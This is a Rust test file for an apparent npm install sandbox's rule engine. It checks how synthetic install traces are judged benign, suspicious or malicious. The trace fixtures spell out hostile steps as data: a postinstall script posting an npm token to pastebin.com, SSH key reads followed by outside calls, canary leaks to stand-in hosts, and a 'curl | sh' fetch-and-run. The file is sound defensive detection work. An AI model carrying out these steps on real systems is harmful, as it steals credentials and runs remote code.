//! Verdicts from whole traces: proof by the package's own code makes malicious, signals
//! make suspicious only in combination or when strong, run states are never benign, and
//! benign look-alikes stay benign.
#![allow(clippy::unwrap_used)]

use std::path::PathBuf;

use airlock_events::{Actor, Confidence, Finding, FindingKind, Severity, Strength, Verdict};
use airlock_rules::fixtures::parse_fixture;
use airlock_rules::{FailOn, Judgement, Ruleset, RunFacts};

fn rules() -> &'static Ruleset {
    static RULES: std::sync::OnceLock<Ruleset> = std::sync::OnceLock::new();
    RULES.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../rules");
        Ruleset::load_dir(&dir).unwrap_or_else(|e| panic!("{}", airlock_rules::Diagnostics(&e)))
    })
}

fn judge(events: &str) -> Judgement {
    let (h, recs) = parse_fixture(None, events).unwrap();
    rules().judge(&h, recs)
}

const LC: &str = r#""proc":{"pid":301,"ppid":300,"exe":"node","lifecycle":"postinstall","chain":["npm install","sh -c node install.js","node install.js"]}"#;

fn lc(line: &str) -> String {
    line.replace("LC", LC)
}

#[test]
fn benign_lookalikes_stay_benign() {
    // npm's own registry traffic and config reads; an esbuild-style prebuilt download
    // into the package dir; node-gyp; husky writing a hook; reading ~/.npmrc.
    let t = lc(r#"
{"type":"phase.start","name":"install","command":["npm","install"]}
{"type":"file.open","path":"/home/runner/.npmrc","proc":{"pid":10,"exe":"node","chain":["npm install"]}}
{"type":"net.connect","addr":"198.18.0.2","port":443,"name":"registry.npmjs.org","proc":{"pid":10,"exe":"node","chain":["npm install"]}}
{"type":"http.request","url":"https://registry.npmjs.org/esbuild","headers":[["authorization","Bearer npm_CANARYfixture0000000000000000000"]]}
{"type":"canary.leaked","destination":"https://registry.npmjs.org/esbuild","encoding":"plain"}
{"type":"process.exec","path":"/bin/sh","argv":["sh","-c","node install.js"],"proc":{"pid":300,"ppid":10,"exe":"sh","lifecycle":"postinstall"}}
{"type":"process.exec","path":"/usr/bin/node","argv":["node","install.js"],LC}
{"type":"dns.query","name":"github.com"}
{"type":"net.connect","addr":"198.18.0.3","port":443,"name":"github.com",LC}
{"type":"http.request","url":"https://github.com/evanw/esbuild/releases/download/v0.19.0/linux-x64.tgz"}
{"type":"file.open","path":"/home/runner/project/node_modules/fixture-pkg/bin/esbuild","flags":"O_WRONLY|O_CREAT","write":true,"create":true,LC}
{"type":"file.chmod","path":"/home/runner/project/node_modules/fixture-pkg/bin/esbuild","mode":493,LC}
{"type":"process.exec","path":"/home/runner/project/node_modules/fixture-pkg/bin/esbuild","argv":["esbuild","--version"],"proc":{"pid":302,"ppid":301,"exe":"esbuild","lifecycle":"postinstall"}}
{"type":"process.exec","path":"/usr/bin/make","argv":["make","-C","build"],"proc":{"pid":303,"ppid":301,"exe":"make","lifecycle":"postinstall"}}
{"type":"file.open","path":"/home/runner/project/.git/hooks/pre-commit","flags":"O_WRONLY|O_CREAT","write":true,"create":true,LC}
{"type":"file.open","path":"/home/runner/.npmrc",LC}
{"type":"phase.end","name":"install","status":"ok","exit_code":0,"duration_ms":5000}
"#);
    let j = judge(&t);
    assert_eq!(j.verdict, Verdict::Benign, "{:#?}", j.findings);
    // The weak signals are still reported.
    assert!(j.findings.iter().any(|f| f.rule == "git-hook-write"));
    assert!(j.findings.iter().any(|f| f.rule == "package-token-read"));
}

#[test]
fn token_stealer_is_malicious_with_evidence_chain() {
    let t = lc(r#"
{"type":"file.open","path":"/home/runner/.npmrc",LC}
{"type":"net.connect","addr":"198.18.0.9","port":443,"name":"pastebin.com",LC}
{"type":"http.request","method":"POST","url":"https://pastebin.com/api/api_post.php","body":"api_paste_code=//registry.npmjs.org/:_authToken=npm_CANARYfixture0000000000000000000"}
{"type":"canary.leaked","destination":"https://pastebin.com/api/api_post.php","encoding":"plain","carrier_seq":2}
"#);
    let j = judge(&t);
    assert_eq!(j.verdict, Verdict::Malicious);
    let f = &j.findings[0];
    assert_eq!(f.rule, "canary-leaked");
    assert!(f.decisive);
    assert!(j.findings.iter().any(|f| f.rule == "exfil-service-contact"));
    let conn = j
        .findings
        .iter()
        .find(|f| f.rule == "exfil-service-contact")
        .unwrap();
    let chain = conn
        .evidence
        .iter()
        .find_map(|e| e.proc.as_ref())
        .map(|p| p.chain.join(" → "));
    assert_eq!(
        chain.as_deref(),
        Some("npm install → sh -c node install.js → node install.js")
    );
    // The message says what happened to what; the chain is in the evidence, not
    // repeated in the message.
    assert_eq!(
        conn.message,
        "contacted data-drop/tunnel service pastebin.com"
    );
}

#[test]
fn signals_never_make_malicious_and_combine_into_suspicious() {
    // A credential read alone is a signal: benign, and the report says why.
    let one = lc(r#"{"type":"file.open","path":"/home/runner/.ssh/id_rsa",LC}"#);
    let j = judge(&one);
    assert_eq!(j.verdict, Verdict::Benign, "{j:#?}");
    assert!(
        j.reason.starts_with(
            "no proof of harm; signals too weak alone: credential-file-read (credentials)"
        ),
        "{}",
        j.reason
    );
    // With a signal of another kind (network) it is suspicious, never malicious.
    let two = lc(r#"
{"type":"file.open","path":"/home/runner/.ssh/id_rsa",LC}
{"type":"net.connect","addr":"203.0.113.9","port":80,LC}
{"type":"http.request","method":"GET","url":"http://203.0.113.9/x"}
"#);
    let j = judge(&two);
    assert_eq!(j.verdict, Verdict::Suspicious, "{j:#?}");
    assert!(!j.findings.iter().any(|f| f.decisive));
    assert!(j.reason.contains("2 independent kinds"), "{}", j.reason);
    // One strong signal stands alone.
    let strong = lc(r#"{"type":"dns.query","name":"x.oast.fun"}"#);
    let j = judge(&strong);
    assert_eq!(j.verdict, Verdict::Suspicious, "{j:#?}");
    assert!(
        j.reason.contains("strong signal exfil-service-contact"),
        "{}",
        j.reason
    );
}

#[test]
fn findings_of_one_rule_are_one_finding_listing_each() {
    let t = lc(r#"
{"type":"canary.leaked","canary_id":"npm-token","kind":"npm_token","encoding":"plain","destination":"https://c.example/a"}
{"type":"canary.leaked","canary_id":"aws-key","kind":"aws_secret_access_key","encoding":"plain","destination":"https://c.example/a"}
{"type":"canary.leaked","canary_id":"gh","kind":"github_oauth_token","encoding":"base64","destination":"https://c.example/a"}
"#);
    let j = judge(&t);
    let leaks: Vec<_> = j
        .findings
        .iter()
        .filter(|f| f.rule == "canary-leaked")
        .collect();
    assert_eq!(leaks.len(), 1, "{:#?}", j.findings);
    assert_eq!(leaks[0].items.len(), 3, "{:#?}", leaks[0]);
    assert_eq!(leaks[0].evidence.len(), 3);
    assert_eq!(leaks[0].kind, FindingKind::Proof);
    assert!(
        j.reason
            .starts_with("proof of harm: canary-leaked: canary npm-token"),
        "{}",
        j.reason
    );
}

#[test]
fn timeouts_errors_and_incomplete_traces_are_never_benign() {
    let timed =
        r#"{"type":"phase.end","name":"install","status":"timed-out","duration_ms":600000}"#;
    let j = judge(timed);
    assert_eq!(j.verdict, Verdict::TimedOut);
    assert_eq!(j.timed_out, vec!["install".to_string()]);
    let err = r#"{"type":"phase.end","name":"install","status":"error","duration_ms":1}"#;
    assert_eq!(judge(err).verdict, Verdict::Error);
    let incomplete =
        "{\"type\":\"note\",\"message\":\"x\"}\n{\"record\":\"footer\",\"complete\":false}";
    let j = judge(incomplete);
    assert_eq!(j.verdict, Verdict::Error);
    assert!(!j.complete);
    // No footer at all.
    let (h, mut recs) = parse_fixture(None, r#"{"type":"note","message":"x"}"#).unwrap();
    recs.retain(|r| !matches!(r, airlock_events::Record::Footer(_)));
    let j = rules().judge(&h, recs);
    assert_eq!(j.verdict, Verdict::Error);
    assert!(
        j.notes.iter().any(|n| n.contains("no footer")),
        "{:?}",
        j.notes
    );
    // A decisive finding still wins over a timeout.
    let both = format!(
        "{}\n{}",
        timed, r#"{"type":"canary.leaked","destination":"dns:x.evil.example"}"#
    );
    assert_eq!(judge(&both).verdict, Verdict::Malicious);
}

#[test]
fn scoring_and_fail_on() {
    let cfg = rules().verdict_config().clone();
    let f = |rule: &str, s, c, proof: bool| Finding {
        rule: rule.into(),
        severity: s,
        confidence: c,
        message: String::new(),
        tags: vec![],
        decisive: false,
        evidence: vec![],
        kind: if proof {
            FindingKind::Proof
        } else {
            FindingKind::Signal
        },
        family: "network".into(),
        strength: Strength::Normal,
        actor: Some(Actor::Package),
        items: vec![],
        waived: None,
    };
    let facts = RunFacts {
        complete: true,
        footer_seen: true,
        ..Default::default()
    };
    let d = cfg.decide(&mut [], &facts);
    assert_eq!((d.verdict, d.score), (Verdict::Benign, 0.0));
    // The same rule counts once.
    let twice = [
        f("a", Severity::High, Confidence::High, false),
        f("a", Severity::High, Confidence::High, false),
    ];
    assert_eq!(
        cfg.score(&twice),
        cfg.weight(Severity::High, Confidence::High)
    );
    // A proof of the package's own code decides, whatever its score.
    let mut low = [f("a", Severity::Low, Confidence::Low, true)];
    assert_eq!(cfg.decide(&mut low, &facts).verdict, Verdict::Malicious);
    assert!(low[0].decisive);
    // The same proof acted out by the toolchain alone is only a signal.
    let mut tool = [f("a", Severity::Critical, Confidence::High, true)];
    tool[0].actor = Some(Actor::Toolchain);
    assert_eq!(cfg.decide(&mut tool, &facts).verdict, Verdict::Benign);
    assert!(!tool[0].decisive);
    // A high score of signals of one family is not even suspicious.
    let mut same = [
        f("a", Severity::Critical, Confidence::High, false),
        f("b", Severity::Critical, Confidence::High, false),
    ];
    let d = cfg.decide(&mut same, &facts);
    assert_eq!(d.verdict, Verdict::Benign);
    assert!(d.score >= cfg.malicious);
    // A waived proof does not count.
    let mut waived = [f("a", Severity::Low, Confidence::Low, true)];
    waived[0].waived = Some(airlock_events::Waived {
        reason: "r".into(),
        expires: "2099-01-01".into(),
        source: String::new(),
    });
    let d = cfg.decide(&mut waived, &facts);
    assert_eq!((d.verdict, d.score), (Verdict::Benign, 0.0));
    assert!(FailOn::Malicious.fails(Verdict::Malicious));
    assert!(!FailOn::Malicious.fails(Verdict::Suspicious));
    assert!(FailOn::Suspicious.fails(Verdict::Suspicious));
    assert!(FailOn::Suspicious.fails(Verdict::TimedOut));
    assert!(!FailOn::Suspicious.fails(Verdict::Benign));
    assert_eq!(FailOn::Malicious.exit_code(Verdict::Error), 2);
    assert_eq!(FailOn::Malicious.exit_code(Verdict::Malicious), 1);
    assert_eq!(FailOn::Malicious.exit_code(Verdict::Suspicious), 0);
    assert_eq!("suspicious".parse::<FailOn>(), Ok(FailOn::Suspicious));
}

#[test]
fn judge_reader_streams_jsonl() {
    let (h, recs) = parse_fixture(
        None,
        &lc(r#"{"type":"process.exec","argv":["sh","-c","curl -s http://x.example/a | sh"],LC}"#),
    )
    .unwrap();
    let mut buf = Vec::new();
    let mut w = airlock_events::TraceWriter::new(&mut buf);
    w.header(&h).unwrap();
    for r in recs {
        match r {
            airlock_events::Record::Event(e) => {
                w.event(e).unwrap();
            }
            airlock_events::Record::Footer(f) => w.footer(f).unwrap(),
            airlock_events::Record::Header(_) => {}
        }
    }
    let j = rules().judge_reader(&buf[..]).unwrap();
    assert_eq!(j.verdict, Verdict::Malicious);
    assert!(j.findings.iter().any(|f| f.rule == "fetch-pipe-shell"));
    assert_eq!(j.ruleset_hash, rules().hash());
    // A corrupt line ends the trace as incomplete.
    buf.extend_from_slice(b"{not json\n");
    let j = rules().judge_reader(&buf[..]).unwrap();
    assert!(!j.complete);
}

/// Issue 19: an install OOM-killed (npm exit 137) was judged benign. The sandbox now
/// reports the kill (`oom`, `killed`) and the engine marks the trace incomplete: the
/// verdict is never benign and a finding says why.
#[test]
fn an_oom_killed_install_is_never_benign_and_says_why() {
    let t = r#"
{"type":"phase.start","name":"install","command":["npm","install"]}
{"type":"limit.hit","source":"sandbox","limit":"oom","detail":"the kernel's OOM killer killed 1 process(es) at the memory limit of 512 MiB"}
{"type":"limit.hit","source":"sandbox","limit":"killed","detail":"the phase ended with exit status 137: a process in it was killed by SIGKILL"}
{"type":"phase.end","name":"install","status":"failed","exit_code":137,"duration_ms":16913}
{"record":"footer","complete":false,"gaps":["install: the kernel's OOM killer killed 1 process(es) at the memory limit of 512 MiB"]}"#;
    let j = judge(t);
    assert_ne!(j.verdict, Verdict::Benign, "{j:#?}");
    assert!(!j.complete);
    let f = j
        .findings
        .iter()
        .find(|f| f.rule == "resource-limit-hit")
        .expect("a finding names the limit");
    assert!(f.message.contains("OOM killer"), "{}", f.message);
}

#[test]
fn waived_findings_stay_but_do_not_count() {
    use airlock_rules::waiver::Date;
    use airlock_rules::Waivers;
    let t =
        lc(r#"{"type":"process.exec","argv":["sh","-c","curl -s http://x.example/a | sh"],LC}"#);
    let today = Date {
        year: 2026,
        month: 12,
        day: 2,
    };
    let file = std::path::Path::new("airlock.toml");
    let live = Waivers::parse(
        file,
        "[[waiver]]\nrule = \"fetch-pipe-shell\"\npackage = \"fixture-pkg@>=1.0.0, <2\"\nreason = \"installs its own toolchain\"\nexpires = 2027-01-01\n",
    )
    .unwrap();
    let mut j = judge(&t);
    assert_eq!(j.verdict, Verdict::Malicious);
    let header = parse_fixture(None, &t).unwrap().0;
    let warnings = rules().apply_waivers(&mut j, &header.package, &live, today);
    assert!(warnings.is_empty(), "{warnings:?}");
    assert_ne!(j.verdict, Verdict::Malicious, "{j:#?}");
    let f = j
        .findings
        .iter()
        .find(|f| f.rule == "fetch-pipe-shell")
        .unwrap();
    assert_eq!(
        f.waived.as_ref().unwrap().reason,
        "installs its own toolchain"
    );
    assert!(!f.decisive);
    // An expired waiver is ignored with a warning.
    let expired = Waivers::parse(
        file,
        "[[waiver]]\nrule = \"fetch-pipe-shell\"\npackage = \"fixture-pkg@1.0.0\"\nreason = \"r\"\nexpires = 2026-11-01\n",
    )
    .unwrap();
    let mut j = judge(&t);
    let warnings = rules().apply_waivers(&mut j, &header.package, &expired, today);
    assert_eq!(j.verdict, Verdict::Malicious);
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].contains("expired on 2026-11-01"),
        "{warnings:?}"
    );
}
